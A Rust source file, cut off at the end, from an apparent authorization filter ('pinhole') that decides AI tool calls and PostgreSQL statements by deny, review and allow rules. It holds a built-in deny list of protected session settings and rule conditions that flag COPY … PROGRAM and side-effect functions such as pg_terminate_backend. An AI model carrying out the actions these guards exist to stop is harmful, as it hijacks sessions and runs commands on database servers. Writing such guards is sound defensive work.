//! The evaluator: one function decides every request, in Envoy and in the
//! `pinhole` CLI alike.
//!
//! Decision order (a request is checked against every rule of its target):
//! 1. a matching `deny` rule wins;
//! 2. otherwise a matching `review` rule asks for approval (the filter refuses
//!    it until the approvals feature completes it — never allows);
//! 3. otherwise a matching `allow` rule allows;
//! 4. otherwise the request is denied (default deny).
//!
//! Rules are considered in source order within each effect, so the reported
//! rule is the first one of the winning effect.
//!
//! # SQL
//!
//! SQL is decided one statement at a time ([`Request::Sql`]); a text with
//! several statements ([`evaluate_statements`], [`evaluate_sql`], or a
//! `tools/call` whose SQL argument holds several) takes the worst outcome
//! over its statements: any deny → deny (naming that statement and its
//! rule), else any review → review, else allow.
//!
//! A SQL matcher ([`SqlMatch`]) matches a statement when all its present
//! conditions hold. The statement's kinds are its own kind plus every
//! data-modifying kind nested in it (a CTE's DELETE) and, for PREPARE, the
//! prepared statement's kinds. For `allow` and `review` rules (strict):
//! - every kind must be in `statements` (empty = any), and a kind the
//!   classifier does not know (`StatementKind::Other`) never matches;
//! - every table read or written must match `tables` (empty = any);
//! - when `functions` is given, every function called must match it;
//! - a built-in function with side effects ([`sql::SIDE_EFFECT_FUNCTIONS`]:
//!   `nextval`, `pg_terminate_backend`, `lo_*`, `table_to_xml`, …) must be
//!   named by `functions` even when it is empty; a `set_config` call makes
//!   the statement also of kind `set`.
//!
//! For `deny` rules (broad): some kind in `statements` (empty = any kind,
//! unknown ones included), some touched table in `tables` (empty = no
//! condition) and some called function in `functions` (empty = no
//! condition). `without_where` restricts any rule to statements with an
//! UPDATE/DELETE lacking WHERE; `copy_program` to `COPY … PROGRAM`.
//!
//! Table names are compared as `schema.name`, an unqualified name taking
//! schema `public` (a database name in front is ignored: PostgreSQL refuses
//! cross-database references). A function pattern without a dot matches
//! an unqualified call or a `pg_catalog` one; with a dot it matches the
//! qualified call. Deny rules also match a pattern without a dot against
//! the bare name of a call in any schema.
//!
//! A `tools/call` is decided this way when some rule of the target names
//! `sql_argument` for the tool (whatever its roles): the argument is
//! classified once per request; a missing or non-string argument, SQL that
//! does not parse or is over the classifier's caps is denied.

use serde_json::Value;

use super::index::RuleIndex;
use super::model::{
    ArgConstraint, ArgPath, ArgTest, Effect, Matcher, PathSeg, Policy, Rule, SqlMatch, SqlObject,
    StatementClass,
};
use crate::glob;
use crate::pg::sql::{self, ObjectType, QualifiedName, StatementInfo, StatementKind};

/// What is being asked, already decoded from the protocol.
#[derive(Debug, Clone, Copy)]
pub enum Request<'a> {
    /// MCP `tools/call`.
    ToolCall { name: &'a str, arguments: &'a Value },
    /// MCP `resources/read`, `resources/subscribe`, `resources/unsubscribe`.
    Resource { uri: &'a str },
    /// MCP `prompts/get`.
    Prompt { name: &'a str },
    /// Any other MCP method subject to authorization (e.g. `completion/complete`).
    McpMethod { method: &'a str },
    /// A plain HTTP request.
    Http { method: &'a str, path: &'a str },
    /// One classified SQL statement on a postgres target.
    Sql { statement: &'a StatementInfo },
}

impl Request<'_> {
    /// Short human description, e.g. ``tool `deploy` ``.
    pub fn describe(&self) -> String {
        match self {
            Request::ToolCall { name, .. } => format!("tool `{name}`"),
            Request::Resource { uri } => format!("resource `{uri}`"),
            Request::Prompt { name } => format!("prompt `{name}`"),
            Request::McpMethod { method } => format!("method `{method}`"),
            Request::Http { method, path } => format!("{method} {path}"),
            Request::Sql { statement } => format!("statement `{}`", clip(&statement.text)),
        }
    }
}

/// A statement text shortened for messages (one line, at most 80 chars).
fn clip(text: &str) -> String {
    if text.len() <= 80
        && !text.contains(|c: char| c.is_whitespace() && c != ' ')
        && !text.contains("  ")
        && !text.starts_with(' ')
        && !text.ends_with(' ')
    {
        return text.to_owned();
    }
    let one: String = text.split_whitespace().collect::<Vec<_>>().join(" ");
    if one.chars().count() > 80 {
        let cut: String = one.chars().take(77).collect();
        format!("{cut}...")
    } else {
        one
    }
}

/// The outcome of an evaluation.
#[derive(Debug, Clone, PartialEq)]
pub struct Decision {
    pub effect: Effect,
    /// The deciding rule; `None` for the default deny.
    pub rule: Option<String>,
    /// One sentence for the caller and the log.
    pub reason: String,
}

impl Decision {
    pub fn allowed(&self) -> bool {
        self.effect == Effect::Allow
    }
}

/// Why one rule did or did not match (for `explain` and tests).
#[derive(Debug, Clone, PartialEq)]
pub struct RuleTrace {
    pub rule: String,
    pub effect: Effect,
    pub matched: bool,
    pub why: String,
}

/// How an evaluation goes over the rules of the target. All three take the
/// same decision (a property test in `index_tests.rs` checks it).
#[derive(Clone, Copy)]
enum Scan<'i> {
    /// Every rule, each reported to the trace (`pinhole explain`).
    Traced,
    /// Every rule; rules that cannot apply (other roles, other items) are
    /// skipped without explaining why.
    Untraced,
    /// Only the rules the index says might apply (the filter's path).
    Indexed(&'i RuleIndex),
}

impl<'i> Scan<'i> {
    /// The index, when there is one built for `policy`'s rules of `target`.
    fn index(self, policy: &Policy, target: &str) -> Option<&'i RuleIndex> {
        match self {
            Scan::Indexed(ix) if ix.covers(policy, target) => Some(ix),
            _ => None,
        }
    }
}

/// The rules an evaluation considers, in source order: every rule of the
/// target, or the index's candidates.
enum Considered<'p, 'c> {
    All(std::slice::Iter<'p, Rule>, &'c str),
    Picked(std::slice::Iter<'c, u32>, &'p [Rule]),
}

impl<'p> Iterator for Considered<'p, '_> {
    type Item = &'p Rule;

    fn next(&mut self) -> Option<&'p Rule> {
        match self {
            Considered::All(it, target) => it.find(|r| r.target == *target),
            Considered::Picked(it, rules) => {
                it.find_map(|&pos| usize::try_from(pos).ok().and_then(|i| rules.get(i)))
            }
        }
    }
}

/// The rules of `target` to consider for `req` (`picked`: scratch space
/// for the index's candidates).
fn considered<'p, 'c>(
    policy: &'p Policy,
    target: &'c str,
    roles: &[String],
    req: &Request,
    scan: Scan,
    picked: &'c mut Vec<u32>,
) -> Considered<'p, 'c> {
    match scan.index(policy, target) {
        Some(ix) => {
            ix.candidates(roles, req, picked);
            Considered::Picked(picked.iter(), &policy.rules)
        }
        None => Considered::All(policy.rules.iter(), target),
    }
}

/// Decide `req` on `target` for an identity holding `roles` (every rule
/// of the target considered: the reference the index is checked against).
pub fn evaluate(policy: &Policy, roles: &[String], target: &str, req: &Request) -> Decision {
    evaluate_in(policy, roles, target, req, Scan::Untraced, &mut |_| {})
}

/// [`evaluate`] through `index` (built by [`RuleIndex::build`] for this
/// policy and target; another index is ignored): the same decision, at a
/// cost that does not grow with the number of rules. The filter's path.
pub fn evaluate_indexed(
    policy: &Policy,
    index: &RuleIndex,
    roles: &[String],
    target: &str,
    req: &Request,
) -> Decision {
    evaluate_in(
        policy,
        roles,
        target,
        req,
        Scan::Indexed(index),
        &mut |_| {},
    )
}

/// [`evaluate`], reporting every rule considered to `trace`.
pub fn evaluate_traced(
    policy: &Policy,
    roles: &[String],
    target: &str,
    req: &Request,
    trace: &mut dyn FnMut(RuleTrace),
) -> Decision {
    evaluate_in(policy, roles, target, req, Scan::Traced, trace)
}

fn evaluate_in(
    policy: &Policy,
    roles: &[String],
    target: &str,
    req: &Request,
    scan: Scan,
    trace: &mut dyn FnMut(RuleTrace),
) -> Decision {
    if let Request::ToolCall { name, arguments } = req {
        let paths = sql_paths(policy, target, name, scan);
        if !paths.is_empty() {
            return evaluate_sql_tool(policy, roles, target, req, arguments, &paths, scan, trace);
        }
    }
    decide_one_inner(policy, roles, target, req, None, trace, scan)
}

/// Decides every statement of a SQL text on a postgres target (worst
/// outcome wins). Unparsable SQL, or SQL over the classifier's caps, is
/// denied.
pub fn evaluate_sql(
    policy: &Policy,
    roles: &[String],
    target: &str,
    text: &str,
    trace: &mut dyn FnMut(RuleTrace),
) -> Decision {
    match sql::classify(text) {
        Ok(statements) => evaluate_statements(policy, roles, target, &statements, trace),
        Err(e) => Decision {
            effect: Effect::Deny,
            rule: None,
            reason: format!("the SQL could not be parsed: {e}"),
        },
    }
}

/// [`evaluate_statements`] without a trace: rules for other roles are
/// skipped without explaining why (the hot path in the filter).
pub fn decide_statements(
    policy: &Policy,
    roles: &[String],
    target: &str,
    statements: &[StatementInfo],
) -> Decision {
    decide_statements_in(policy, roles, target, statements, Scan::Untraced)
}

/// [`decide_statements`] through `index` (see [`evaluate_indexed`]).
pub fn decide_statements_indexed(
    policy: &Policy,
    index: &RuleIndex,
    roles: &[String],
    target: &str,
    statements: &[StatementInfo],
) -> Decision {
    decide_statements_in(policy, roles, target, statements, Scan::Indexed(index))
}

/// [`evaluate_sql`] without a trace, through `index`.
pub fn evaluate_sql_indexed(
    policy: &Policy,
    index: &RuleIndex,
    roles: &[String],
    target: &str,
    text: &str,
) -> Decision {
    match sql::classify(text) {
        Ok(statements) => {
            decide_statements_in(policy, roles, target, &statements, Scan::Indexed(index))
        }
        Err(e) => Decision {
            effect: Effect::Deny,
            rule: None,
            reason: format!("the SQL could not be parsed: {e}"),
        },
    }
}

fn decide_statements_in(
    policy: &Policy,
    roles: &[String],
    target: &str,
    statements: &[StatementInfo],
    scan: Scan,
) -> Decision {
    let mut decisions = Vec::with_capacity(statements.len());
    for statement in statements {
        let req = Request::Sql { statement };
        decisions.push(decide_one_inner(
            policy,
            roles,
            target,
            &req,
            None,
            &mut |_| {},
            scan,
        ));
    }
    worst(decisions, "the SQL")
}

/// Decides classified statements one by one ([`Request::Sql`]); the worst
/// outcome wins.
pub fn evaluate_statements(
    policy: &Policy,
    roles: &[String],
    target: &str,
    statements: &[StatementInfo],
    trace: &mut dyn FnMut(RuleTrace),
) -> Decision {
    let many = statements.len() > 1;
    let mut decisions = Vec::with_capacity(statements.len());
    for (i, statement) in statements.iter().enumerate() {
        let req = Request::Sql { statement };
        let mut tr = |mut t: RuleTrace| {
            if many {
                t.why = format!("statement {}: {}", i + 1, t.why);
            }
            trace(t)
        };
        decisions.push(decide_one(policy, roles, target, &req, None, &mut tr));
    }
    worst(decisions, "the SQL")
}

/// The SQL argument paths named by rules of `target` covering tool `name`.
fn sql_paths<'p>(policy: &'p Policy, target: &str, name: &str, scan: Scan) -> Vec<&'p ArgPath> {
    let mut out: Vec<&ArgPath> = Vec::new();
    let mut consider = |r: &'p Rule| {
        if let Matcher::Mcp(m) = &r.matcher {
            if let Some(p) = &m.sql_argument {
                if glob::any_matches(&m.tools, name) && !out.contains(&p) {
                    out.push(p);
                }
            }
        }
    };
    match scan.index(policy, target) {
        Some(ix) => {
            let mut picked = Vec::new();
            ix.sql_tool_candidates(name, &mut picked);
            for &pos in &picked {
                if let Some(r) = usize::try_from(pos).ok().and_then(|i| policy.rules.get(i)) {
                    consider(r);
                }
            }
        }
        None => policy
            .rules
            .iter()
            .filter(|r| r.target == target)
            .for_each(consider),
    }
    out
}

#[expect(
    clippy::too_many_arguments,
    reason = "the evaluation's context, passed down as is"
)]
fn evaluate_sql_tool(
    policy: &Policy,
    roles: &[String],
    target: &str,
    req: &Request,
    arguments: &Value,
    paths: &[&ArgPath],
    scan: Scan,
    trace: &mut dyn FnMut(RuleTrace),
) -> Decision {
    let refuse = |why: String| Decision {
        effect: Effect::Deny,
        rule: None,
        reason: format!("{}: {why}", req.describe()),
    };
    let mut rounds = Vec::with_capacity(paths.len());
    for p in paths {
        let arg = &p.path_text;
        let text = match lookup(arguments, &p.path) {
            None => return refuse(format!("the SQL argument `{arg}` is missing")),
            Some(Value::String(s)) => s,
            Some(_) => return refuse(format!("the SQL argument `{arg}` is not a string")),
        };
        match sql::classify(text) {
            Ok(st) => rounds.push((*p, st)),
            Err(e) => {
                return refuse(format!(
                    "the SQL in argument `{arg}` could not be parsed: {e}"
                ))
            }
        }
    }
    let many = rounds.iter().map(|(_, st)| st.len()).sum::<usize>() > 1;
    let mut decisions = Vec::new();
    for (p, statements) in &rounds {
        for (i, statement) in statements.iter().enumerate() {
            let mut tr = |mut t: RuleTrace| {
                if many {
                    t.why = format!("statement {}: {}", i + 1, t.why);
                }
                trace(t)
            };
            decisions.push(decide_one_inner(
                policy,
                roles,
                target,
                req,
                Some((*p, statement)),
                &mut tr,
                scan,
            ));
        }
    }
    worst(decisions, &req.describe())
}

/// The worst of per-statement decisions: the first deny, else the first
/// review, else an allow (naming the first statement's rule).
fn worst(mut decisions: Vec<Decision>, what: &str) -> Decision {
    let n = decisions.len();
    let pick = |e: Effect| decisions.iter().position(|d| d.effect == e);
    match pick(Effect::Deny).or_else(|| pick(Effect::Review)) {
        Some(i) => decisions.swap_remove(i),
        None => match decisions.into_iter().next() {
            Some(d) if n == 1 => d,
            Some(d) => Decision {
                effect: Effect::Allow,
                rule: d.rule,
                reason: format!("{what} is allowed (all {n} statements)"),
            },
            None => Decision {
                effect: Effect::Deny,
                rule: None,
                reason: format!("{what} has no statement"),
            },
        },
    }
}

/// One request (and, for a SQL tool call, one of its statements).
fn decide_one(
    policy: &Policy,
    roles: &[String],
    target: &str,
    req: &Request,
    stmt: Option<(&ArgPath, &StatementInfo)>,
    trace: &mut dyn FnMut(RuleTrace),
) -> Decision {
    decide_one_inner(policy, roles, target, req, stmt, trace, Scan::Traced)
}

/// Settings no statement may change through the filter, whatever the
/// policy says: they change who the session is (`role`,
/// `session_authorization`), how table names resolve (`search_path`), or
/// how the server reads SQL text, which would let a statement mean one
/// thing to the filter and another to the server (`client_encoding`,
/// `standard_conforming_strings`, `backslash_quote`). `*`: a
/// `set_config` whose setting name is not a literal.
pub const PROTECTED_SETTINGS: &[&str] = &[
    "role",
    "session_authorization",
    "search_path",
    "client_encoding",
    "standard_conforming_strings",
    "backslash_quote",
    "*",
];

/// The id reported for refusals by the protected-settings guard.
pub const PROTECTED_SETTINGS_RULE: &str = "builtin:protected-setting";

/// The protected setting a statement (or the statement it prepares or
/// explains-and-runs) changes, if any.
fn protected_setting(s: &StatementInfo) -> Option<&str> {
    s.settings
        .iter()
        .find(|n| PROTECTED_SETTINGS.contains(&n.as_str()))
        .map(String::as_str)
}

/// `Scan::Traced`: report every rule to `trace`; otherwise rules that
/// cannot apply are skipped silently (same decision, less work).
fn decide_one_inner(
    policy: &Policy,
    roles: &[String],
    target: &str,
    req: &Request,
    stmt: Option<(&ArgPath, &StatementInfo)>,
    trace: &mut dyn FnMut(RuleTrace),
    scan: Scan,
) -> Decision {
    let traced = matches!(scan, Scan::Traced);
    let what = match stmt {
        Some((_, s)) => format!("{} statement `{}`", req.describe(), clip(&s.text)),
        None => req.describe(),
    };
    // 0. A built-in guard no rule can lift (see PROTECTED_SETTINGS).
    let statement = match (req, stmt) {
        (Request::Sql { statement }, _) => Some(*statement),
        (_, Some((_, s))) => Some(s),
        _ => None,
    };
    if let Some(name) = statement.and_then(protected_setting) {
        let shown = if name == "*" {
            "a setting named by a non-literal `set_config` argument".to_owned()
        } else {
            format!("`{name}`")
        };
        trace(RuleTrace {
            rule: PROTECTED_SETTINGS_RULE.into(),
            effect: Effect::Deny,
            matched: true,
            why: format!("the statement changes {shown}"),
        });
        return Decision {
            effect: Effect::Deny,
            rule: Some(PROTECTED_SETTINGS_RULE.into()),
            reason: format!(
                "{what} is denied: it changes {shown}, which no statement may change through \
                 pinhole (it would change the session's identity, how table names resolve or \
                 how the server reads SQL)"
            ),
        };
    }
    let mut first: [Option<(&Rule, String)>; 3] = [None, None, None];
    // The first allow rule that fitted the caller and the item but failed an
    // argument constraint: named in the default deny so the caller learns
    // which rule and which argument stopped it.
    let mut near_miss: Option<(&Rule, String)> = None;
    let mut picked = Vec::new();
    for rule in considered(policy, target, roles, req, scan, &mut picked) {
        if !traced && cannot_apply(rule, roles, req) {
            continue;
        }
        let outcome = rule_matches(rule, roles, req, stmt);
        let (matched, why) = match outcome {
            Ok(why) => (true, why),
            Err(Miss { why, near }) => {
                if near && rule.effect == Effect::Allow && near_miss.is_none() {
                    near_miss = Some((rule, why.clone()));
                }
                (false, why)
            }
        };
        if traced {
            trace(RuleTrace {
                rule: rule.id.clone(),
                effect: rule.effect,
                matched,
                why: why.clone(),
            });
        }
        if matched {
            let slot = match rule.effect {
                Effect::Deny => 0,
                Effect::Review => 1,
                Effect::Allow => 2,
            };
            if let Some(s) = first.get_mut(slot) {
                if s.is_none() {
                    *s = Some((rule, why));
                }
            }
        }
    }
    let [deny, review, allow] = first;
    // 1. Any matching deny wins.
    if let Some((rule, why)) = deny {
        return Decision {
            effect: Effect::Deny,
            rule: Some(rule.id.clone()),
            reason: with_author_reason(format!("{} is denied ({why})", what), rule),
        };
    }
    // 2. Review: approval required (refused by the filter until approved).
    if let Some((rule, _)) = review {
        return Decision {
            effect: Effect::Review,
            rule: Some(rule.id.clone()),
            reason: with_author_reason(format!("{} requires a reviewer's approval", what), rule),
        };
    }
    // 3. An allow rule allows.
    if let Some((rule, _)) = allow {
        return Decision {
            effect: Effect::Allow,
            rule: Some(rule.id.clone()),
            reason: format!("{} is allowed", what),
        };
    }
    // 4. Default deny.
    if let Some((rule, why)) = near_miss {
        return Decision {
            effect: Effect::Deny,
            rule: Some(rule.id.clone()),
            reason: with_author_reason(format!("{} is not allowed: {why}", what), rule),
        };
    }
    Decision {
        effect: Effect::Deny,
        rule: None,
        reason: format!(
            "{} is not allowed for your roles on target `{target}` (no rule allows it)",
            what
        ),
    }
}

fn with_author_reason(msg: String, rule: &Rule) -> String {
    match &rule.reason {
        Some(r) => format!("{msg}: {r}"),
        None => msg,
    }
}

fn role_applies(rule: &Rule, roles: &[String]) -> bool {
    rule.roles.is_empty() || rule.roles.iter().any(|r| roles.contains(r))
}

/// A quick test, without building any message, that `rule` neither
/// matches `req` nor is a near miss: it is for other roles, or it names
/// other items (the first tests of [`rule_matches`], whose failures are
/// never near misses).
fn cannot_apply(rule: &Rule, roles: &[String], req: &Request) -> bool {
    if !role_applies(rule, roles) {
        return true;
    }
    match (&rule.matcher, req) {
        (Matcher::Any, _) | (Matcher::Sql(_), Request::Sql { .. }) => false,
        (Matcher::Mcp(m), Request::ToolCall { name, .. }) => !glob::any_matches(&m.tools, name),
        (Matcher::Mcp(m), Request::Resource { uri }) => !glob::any_matches(&m.resources, uri),
        (Matcher::Mcp(m), Request::Prompt { name }) => !glob::any_matches(&m.prompts, name),
        (Matcher::Mcp(m), Request::McpMethod { method }) => !glob::any_matches(&m.methods, method),
        (Matcher::Http(h), Request::Http { method, path }) => {
            (!h.methods.is_empty() && !h.methods.iter().any(|m| m.eq_ignore_ascii_case(method)))
                || (!h.paths.is_empty() && !glob::any_matches(&h.paths, path))
        }
        _ => true,
    }
}

/// Why a rule did not match; `near` when only an argument constraint failed.
struct Miss {
    why: String,
    near: bool,
}

impl From<String> for Miss {
    fn from(why: String) -> Miss {
        Miss { why, near: false }
    }
}

impl From<&str> for Miss {
    fn from(why: &str) -> Miss {
        Miss {
            why: why.to_string(),
            near: false,
        }
    }
}

/// `Ok(why it matched)` or `Err(why it did not)`.
fn rule_matches(
    rule: &Rule,
    roles: &[String],
    req: &Request,
    stmt: Option<(&ArgPath, &StatementInfo)>,
) -> Result<String, Miss> {
    if !role_applies(rule, roles) {
        return Err(format!("caller holds none of the roles {:?}", rule.roles).into());
    }
    match (&rule.matcher, req) {
        (Matcher::Any, _) => Ok("rule covers every request on the target".into()),
        (Matcher::Mcp(m), Request::ToolCall { name, arguments }) => {
            if !glob::any_matches(&m.tools, name) {
                return Err(format!("tool `{name}` is not in {:?}", m.tools).into());
            }
            for c in &m.arguments {
                check_argument(c, arguments).map_err(|why| Miss { why, near: true })?;
            }
            if let Some(want) = &m.sql_argument {
                let default = SqlMatch::default();
                let sm = m.sql.as_ref().unwrap_or(&default);
                return match stmt {
                    Some((p, s)) if p == want => sql_matches(sm, rule.effect, s)
                        .map(|why| format!("tool `{name}` matches {:?} and {why}", m.tools))
                        .map_err(|why| Miss { why, near: true }),
                    Some(_) => Err(format!(
                        "the rule judges the SQL in argument `{}`, not this statement's",
                        want.path_text
                    )
                    .into()),
                    None => Err("the tool call carries no classified SQL".into()),
                };
            }
            if m.arguments.is_empty() {
                Ok(format!("tool `{name}` matches {:?}", m.tools))
            } else {
                Ok(format!(
                    "tool `{name}` matches {:?} and its arguments meet the rule's constraints",
                    m.tools
                ))
            }
        }
        (Matcher::Mcp(m), Request::Resource { uri }) => {
            if glob::any_matches(&m.resources, uri) {
                Ok(format!("resource `{uri}` matches {:?}", m.resources))
            } else {
                Err(format!("resource `{uri}` is not in {:?}", m.resources).into())
            }
        }
        (Matcher::Mcp(m), Request::Prompt { name }) => {
            if glob::any_matches(&m.prompts, name) {
                Ok(format!("prompt `{name}` matches {:?}", m.prompts))
            } else {
                Err(format!("prompt `{name}` is not in {:?}", m.prompts).into())
            }
        }
        (Matcher::Mcp(m), Request::McpMethod { method }) => {
            if glob::any_matches(&m.methods, method) {
                Ok(format!("method `{method}` matches {:?}", m.methods))
            } else {
                Err(format!("method `{method}` is not in {:?}", m.methods).into())
            }
        }
        (Matcher::Http(h), Request::Http { method, path }) => {
            if !h.methods.is_empty() && !h.methods.iter().any(|m| m.eq_ignore_ascii_case(method)) {
                return Err(format!("method {method} is not in {:?}", h.methods).into());
            }
            if !h.paths.is_empty() && !glob::any_matches(&h.paths, path) {
                return Err(format!("path `{path}` is not in {:?}", h.paths).into());
            }
            Ok(format!("{method} {path} matches the rule"))
        }
        (Matcher::Sql(m), Request::Sql { statement }) => {
            sql_matches(m, rule.effect, statement).map_err(|why| Miss { why, near: true })
        }
        _ => Err("rule does not cover this kind of request".into()),
    }
}

/// The kinds of a statement as the policy sees them: its own, the
/// data-modifying ones nested in it and, for PREPARE, the prepared
/// statement's.
pub(super) fn kinds_of(s: &StatementInfo) -> Vec<&StatementKind> {
    let mut out = vec![&s.kind];
    out.extend(s.dml_kinds.iter());
    if s.kind == StatementKind::Prepare {
        if let Some(inner) = &s.inner {
            out.extend(kinds_of(inner));
        }
    }
    out
}

/// `has_where` and `copy_program`, looking into a prepared statement.
fn guards_of(s: &StatementInfo) -> (bool, bool) {
    let (mut has_where, mut program) = (s.has_where, s.copy_program);
    if s.kind == StatementKind::Prepare {
        if let Some(inner) = &s.inner {
            let (w, p) = guards_of(inner);
            has_where &= w;
            program |= p;
        }
    }
    (has_where, program)
}

fn object_name(o: &ObjectType) -> &str {
    match o {
        ObjectType::Table => "table",
        ObjectType::View => "view",
        ObjectType::MaterializedView => "materialized view",
        ObjectType::Index => "index",
        ObjectType::Schema => "schema",
        ObjectType::Database => "database",
        ObjectType::Role => "role",
        ObjectType::User => "user",
        ObjectType::Sequence => "sequence",
        ObjectType::Type => "type",
        ObjectType::Domain => "domain",
        ObjectType::Function => "function",
        ObjectType::Procedure => "procedure",
        ObjectType::Trigger => "trigger",
        ObjectType::Extension => "extension",
        ObjectType::Policy => "policy",
        ObjectType::Server => "server",
        ObjectType::Collation => "collation",
        ObjectType::Operator => "operator",
        ObjectType::Other(s) => s,
    }
}

/// A statement kind in the policy's words (`select`, `drop table`).
pub fn kind_name(k: &StatementKind) -> String {
    let simple = match k {
        StatementKind::Select => "select",
        StatementKind::Insert => "insert",
        StatementKind::Update => "update",
        StatementKind::Delete => "delete",
        StatementKind::Merge => "merge",
        StatementKind::CopyTo => "copy to",
        StatementKind::CopyFrom => "copy from",
        StatementKind::Create(o) => return format!("create {}", object_name(o)),
        StatementKind::Alter(o) => return format!("alter {}", object_name(o)),
        StatementKind::Drop(o) => return format!("drop {}", object_name(o)),
        StatementKind::Truncate => "truncate",
        StatementKind::Grant => "grant",
        StatementKind::Revoke => "revoke",
        StatementKind::DoBlock => "do",
        StatementKind::Call => "call",
        StatementKind::Set => "set",
        StatementKind::Show => "show",
        StatementKind::Transaction => "transaction",
        StatementKind::Explain => "explain",
        StatementKind::Prepare => "prepare",
        StatementKind::Execute => "execute",
        StatementKind::Deallocate => "deallocate",
        StatementKind::Listen => "listen",
        StatementKind::Notify => "notify",
        StatementKind::Unlisten => "unlisten",
        StatementKind::Vacuum => "vacuum",
        StatementKind::Analyze => "analyze",
        StatementKind::Discard => "discard",
        StatementKind::Lock => "lock",
        StatementKind::Comment => "comment",
        StatementKind::Cursor => "cursor",
        StatementKind::FunctionCall => "function_call",
        StatementKind::Other(n) => return format!("unknown ({n})"),
    };
    simple.to_owned()
}

fn object_matches(want: &Option<SqlObject>, got: &ObjectType) -> bool {
    let Some(want) = want else { return true };
    match (want, got) {
        // `CREATE USER` is `CREATE ROLE … LOGIN`.
        (SqlObject::Role, ObjectType::User) => true,
        _ => object_name(got) == want.as_str(),
    }
}

/// Whether a policy statement class covers a classified kind.
pub fn class_matches(c: &StatementClass, k: &StatementKind) -> bool {
    use StatementClass as C;
    use StatementKind as K;
    match (c, k) {
        (C::Create(o), K::Create(t)) | (C::Alter(o), K::Alter(t)) | (C::Drop(o), K::Drop(t)) => {
            object_matches(o, t)
        }
        (C::Copy, K::CopyTo | K::CopyFrom) => true,
        (C::Select, K::Select)
        | (C::Insert, K::Insert)
        | (C::Update, K::Update)
        | (C::Delete, K::Delete)
        | (C::Merge, K::Merge)
        | (C::CopyTo, K::CopyTo)
        | (C::CopyFrom, K::CopyFrom)
        | (C::Truncate, K::Truncate)
        | (C::Grant, K::Grant)
        | (C::Revoke, K::Revoke)
        | (C::Do, K::DoBlock)
        | (C::Call, K::Call)
        | (C::Set, K::Set)
        | (C::Show, K::Show)
        | (C::Transaction, K::Transaction)
        | (C::Explain, K::Explain)
        | (C::Prepare, K::Prepare)
        | (C::Execute, K::Execute)
        | (C::Deallocate, K::Deallocate)
        | (C::Listen, K::Listen)
        | (C::Notify, K::Notify)
        | (C::Unlisten, K::Unlisten)
        | (C::Vacuum, K::Vacuum)
        | (C::Analyze, K::Analyze)
        | (C::Lock, K::Lock)
        | (C::Comment, K::Comment)
        | (C::Discard, K::Discard)
        | (C::Cursor, K::Cursor)
        | (C::FunctionCall, K::FunctionCall) => true,
        _ => false,
    }
}

/// `schema.name`, an unqualified name taking schema `public`.
pub fn table_name(q: &QualifiedName) -> String {
    format!("{}.{}", q.schema.as_deref().unwrap_or("public"), q.name)
}

fn function_matches(patterns: &[String], f: &QualifiedName, broad: bool) -> bool {
    let bare = f.name.as_str();
    match f.schema.as_deref() {
        None | Some("pg_catalog") => {
            glob::any_matches(patterns, bare)
                || glob::any_matches(patterns, &format!("pg_catalog.{bare}"))
        }
        Some(s) => {
            glob::any_matches(patterns, &format!("{s}.{bare}"))
                || (broad && glob::any_matches(patterns, bare))
        }
    }
}

fn classes(list: &[StatementClass]) -> String {
    let v: Vec<String> = list.iter().map(StatementClass::as_string).collect();
    format!("[{}]", v.join(", "))
}

/// Whether SQL matcher `m` of a rule with `effect` matches statement `s`
/// (see the module documentation): `Ok(why)` or `Err(why not)`.
fn sql_matches(m: &SqlMatch, effect: Effect, s: &StatementInfo) -> Result<String, String> {
    let strict = effect != Effect::Deny;
    let kinds = kinds_of(s);
    if strict {
        if let Some(k) = kinds.iter().find(|k| matches!(k, StatementKind::Other(_))) {
            return Err(format!(
                "statement kind {} is not classified by pinhole: only deny rules match it",
                kind_name(k)
            ));
        }
    }
    if !m.statements.is_empty() {
        let covered = |k: &&StatementKind| m.statements.iter().any(|c| class_matches(c, k));
        if strict {
            if let Some(k) = kinds.iter().find(|k| !covered(k)) {
                return Err(format!(
                    "statement kind {} is not in {}",
                    kind_name(k),
                    classes(&m.statements)
                ));
            }
        } else if !kinds.iter().any(covered) {
            return Err(format!(
                "statement kind {} is not in {}",
                kind_name(&s.kind),
                classes(&m.statements)
            ));
        }
    }
    let (has_where, program) = guards_of(s);
    if m.without_where && has_where {
        return Err("the statement has no UPDATE or DELETE without WHERE".into());
    }
    if m.copy_program && !program {
        return Err("the statement is not a COPY … PROGRAM".into());
    }
    let mut tables: Vec<String> = Vec::new();
    for t in s.reads.iter().chain(&s.writes) {
        let n = table_name(t);
        if !tables.contains(&n) {
            tables.push(n);
        }
    }
    if !m.tables.is_empty() {
        if strict {
            if let Some(t) = tables.iter().find(|t| !glob::any_matches(&m.tables, t)) {
                return Err(format!("table `{t}` is not in {:?}", m.tables));
            }
        } else if !tables.iter().any(|t| glob::any_matches(&m.tables, t)) {
            return Err(format!("the statement touches no table in {:?}", m.tables));
        }
    }
    // A built-in function with effects beyond reading the named tables
    // (`nextval`, `pg_terminate_backend`, `table_to_xml('secrets')`, …) is
    // allowed only by a rule that names it: `statements: [select]` must not
    // mean "may write sequences or signal other sessions".
    if strict {
        if let Some(f) = s
            .functions
            .iter()
            .find(|f| sql::has_side_effects(f) && !function_matches(&m.functions, f, false))
        {
            return Err(format!(
                "function `{f}` has effects beyond reading the tables the statement names: \
                 only a rule whose `functions` names it allows it"
            ));
        }
    }
    if !m.functions.is_empty() {
        if strict {
            if let Some(f) = s
                .functions
                .iter()
                .find(|f| !function_matches(&m.functions, f, false))
            {
                return Err(format!("function `{f}` is not in {:?}", m.functions));
            }
        } else {
            match s
                .functions
                .iter()
                .find(|f| function_matches(&m.functions, f, true))
            {
                Some(f) => {
                    return Ok(format!(
                        "{} statement calls function `{f}`",
                        kind_name(&s.kind)
                    ))
                }
                None => {
                    return Err(format!(
                        "the statement calls no function in {:?}",
                        m.functions
                    ))
                }
            }
        }
    }
    let mut why = format!("{} statement", kind_name(&s.kind));
    if !tables.is_empty() {
        why.push_str(&format!(" on {}", tables.join(", ")));
    }
    if m.without_where {
        why.push_str(" without WHERE");
    }
    if m.copy_program {
        why.push_str(" with COPY … PROGRAM");
    }
    why.push_str(" matches the rule's SQL conditions");
    Ok(why)
}

/// Look up `path` inside `root`.
pub fn lookup<'v>(root: &'v Value, path: &[PathSeg]) -> Option<&'v Value> {
    let mut cur = root;
    for seg in path {
        cur = match seg {
            PathSeg::Key(k) => cur.as_object()?.get(k)?,
            PathSeg::Index(i) => cur.as_array()?.get(*i)?,
        };
    }
    Some(cur)
}

fn json_eq(a: &Value, b: &Value) -> bool {
    match (a, b) {
